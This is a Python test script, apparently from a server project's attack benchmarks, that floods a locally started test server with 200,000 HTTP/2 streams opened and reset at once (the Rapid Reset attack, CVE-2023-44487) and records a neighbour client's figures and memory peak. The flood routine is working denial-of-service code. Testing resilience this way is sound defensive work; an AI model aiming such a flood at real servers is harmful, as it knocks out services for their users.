"""200,000 calls that are opened and reset at once, on one connection (CVE-2023-44487), beside a neighbour's calls."""

import threading
import time
from contextlib import suppress

from bench.attacks.harness import STATUS, Neighbour, Peak, tell
from bench.attacks.wire import END_HEADERS, Wire, data, headers, reset
from tests.server.harness import running_server

CALLS = 200_000
_BATCH = 100


def flood(address: str, calls: int) -> float:
    """Open and reset so many calls; seconds until all were sent or the server closed the connection."""
    begin = time.perf_counter()
    with Wire(address) as wire:
        reader = threading.Thread(target=_drop_answers, args=(wire,), daemon=True)
        reader.start()
        with suppress(OSError):
            for first in range(0, calls, _BATCH):
                wire.send(*(_opened_and_reset(2 * number + 1) for number in range(first, min(calls, first + _BATCH))))
    return time.perf_counter() - begin


def _opened_and_reset(stream: int) -> bytes:
    return headers(stream, STATUS, flags=END_HEADERS) + data(stream, b"") + reset(stream)


def _drop_answers(wire: Wire) -> None:
    with suppress(OSError):
        while wire.socket.recv(1 << 20):
            pass


def main() -> int:
    """Print what the neighbour and the memory saw."""
    with running_server("--device", "sim") as server:
        peak = Peak(server.process.pid)
        with peak.watched(), Neighbour(server.address) as neighbour:
            took_s = flood(server.address, CALLS)
        return tell("resets", calls=CALLS, seconds=took_s, neighbour=neighbour.figures(), memory=peak.figures())


if __name__ == "__main__":
    raise SystemExit(main())
